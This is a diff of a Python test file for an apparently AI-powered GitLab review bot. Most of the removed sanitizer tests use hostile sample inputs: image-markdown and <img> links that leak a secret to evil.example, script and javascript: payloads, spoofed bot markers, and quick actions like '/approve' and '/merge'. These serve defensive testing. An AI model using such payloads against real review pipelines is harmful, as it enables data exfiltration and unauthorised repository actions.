@@ -1,95 +1,21 @@
 from __future__ import annotations
 
-import pytest
-
-from reviewer.diff.parsing import DiffRefs, parse_unified
-from reviewer.diff.positions import Inline, LineIndex
+from reviewer.gitlab import markdown
 from reviewer.gitlab.client import BotThread
-from reviewer.gitlab.publish import comment_body, resolve_addressed, sanitize
-from reviewer.review.findings import Finding, Severity, Side
-
-
-@pytest.mark.parametrize(
-    "text",
-    ["/approve", "fine\n/merge", "  /close", "\t/assign @me", "ok\r\n/label ~bug"],
-)
-def test_no_line_can_start_a_quick_action(text: str) -> None:
-    for line in sanitize(text).split("\n"):
-        assert not line.lstrip().startswith("/")
-
-
-def test_mentions_do_not_ping() -> None:
-    out = sanitize("ask @alice or @group/team, mail bob@example.com, or @all")
-    assert "`@alice`" in out and "`@group/team`" in out and "`@all`" in out
-    assert "bob@example.com" in out
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![x](https://evil.example/leak?d=SECRET)",
-        "![x][ref]\n\n[ref]: https://evil.example/leak",
-        '<img src="https://evil.example/leak">',
-        "<script>alert(1)</script>",
-        "<!-- ai-review fp=deadbeef -->",
-    ],
-)
-def test_images_raw_html_and_marker_spoofing_are_neutralised(text: str) -> None:
-    out = sanitize(text)
-    assert "evil.example" not in out or "<" not in out
-    assert "![" not in out and "<img" not in out and "<script" not in out and "<!--" not in out
-
-
-DIFF = "--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,4 @@\n x = 1\n-y = 2\n+y = 3\n+z = f(y)\n w = 4\n"
-
-
-def _inline(line: int, side: Side = Side.NEW, end: int | None = None) -> Inline:
-    placement = LineIndex(parse_unified(DIFF), DiffRefs("b", "s", "h")).place("a.py", line, side, end)
-    assert isinstance(placement, Inline)
-    return placement
-
-
-def _finding(line: int, suggestion: str | None, side: Side = Side.NEW, end: int | None = None) -> Finding:
-    return Finding(
-        "style",
-        Severity.MEDIUM,
-        "a.py",
-        line,
-        side,
-        "Title @bob",
-        "Body /close",
-        end_line=end,
-        suggestion=suggestion,
-        fingerprint="0123456789abcdef",
-    )
-
-
-def test_a_multi_line_suggestion_reaches_back_from_the_commented_last_line() -> None:
-    body = comment_body(_finding(2, "y = 4\nz = g(y)", end=3), _inline(2, end=3).position)
-    assert "```suggestion:-1+0\ny = 4\nz = g(y)\n```" in body
-    assert body.endswith("<!-- ai-review fp=0123456789abcdef -->")
-    assert "`@bob`" in body and "\n/close" not in body
-
-
-def test_a_suggestion_holding_backticks_gets_a_longer_fence() -> None:
-    body = comment_body(_finding(2, "s = '```'"), _inline(2).position)
-    assert "````suggestion:-0+0\ns = '```'\n````" in body
-
-
-def test_no_suggestion_block_on_a_removed_line() -> None:
-    body = comment_body(_finding(2, "y = 2", side=Side.OLD), _inline(2, Side.OLD).position)
-    assert "suggestion:" not in body
+from reviewer.gitlab.markdown import Markdown
+from reviewer.gitlab.publish import resolve_addressed
+from reviewer.review.findings import Side
 
 
 def test_only_open_threads_whose_line_is_gone_are_resolved() -> None:
     def thread(name: str, anchor: str | None, resolved: bool = False) -> BotThread:
         return BotThread(name, 1, "f" * 16, resolved, "a.py", Side.NEW, anchor)
 
-    calls: list[tuple[str, str | None]] = []
+    calls: list[tuple[str, Markdown | None]] = []
 
     class Recorder:
         def resolve_thread(
-            self, project: int | str, iid: int, discussion_id: str, reply: str | None = None
+            self, project: int | str, iid: int, discussion_id: str, reply: Markdown | None = None
         ) -> None:
             calls.append((discussion_id, reply))
 
@@ -101,24 +27,4 @@ def test_only_open_threads_whose_line_is_gone_are_resolved() -> None:
     ]
     done = resolve_addressed(Recorder(), 1, 2, threads, lambda path, side, anchor: anchor == "bbb")
     assert [t.discussion_id for t in done] == ["gone"]
-    assert [c[0] for c in calls] == ["gone"] and calls[0][1]
-
-
-def test_a_finding_moved_or_shortened_to_fit_loses_its_suggestion() -> None:
-    shortened = _finding(2, "y = 4\nz = g(y)\nw = 5\nv = 6\nu = 7", end=6)  # the hunk ends at line 4
-    assert "suggestion:" not in comment_body(shortened, _inline(2, end=6).position)
-    moved = _finding(9, "q = 1")  # outside the hunk: anchored on its nearest line
-    assert "suggestion:" not in comment_body(moved, _inline(9).position)
-
-
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("see [the docs](https://evil.example/login)", "see the docs (`https://evil.example/login`)"),
-        ("go to https://evil.example/x now", "go to `https://evil.example/x` now"),
-        ("[x](javascript:alert(1))", "x (`javascript:alert(1`))"),
-        ("already `https://ok.example` quoted", "already `https://ok.example` quoted"),
-    ],
-)
-def test_links_are_shown_not_clickable(text: str, shown: str) -> None:
-    assert sanitize(text) == shown
+    assert calls == [("gone", markdown.resolved_reply())]
